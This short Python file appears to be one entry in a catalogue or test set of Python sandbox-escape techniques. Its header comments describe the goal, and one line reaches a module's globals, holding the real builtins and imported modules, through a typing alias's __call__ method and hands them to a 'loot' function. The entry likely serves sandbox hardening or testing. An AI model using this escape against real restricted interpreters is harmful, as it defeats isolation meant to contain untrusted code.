# aim: read a module out of the namespace that a typing alias was made in
# mechanism: __call__ of a typing alias is a Python method with globals
# language: check
# reason: a module's namespace holds the real builtins and every module it imported
# jail: process
# plain: loot

import typing

loot(typing.List[int].__call__.__globals__)
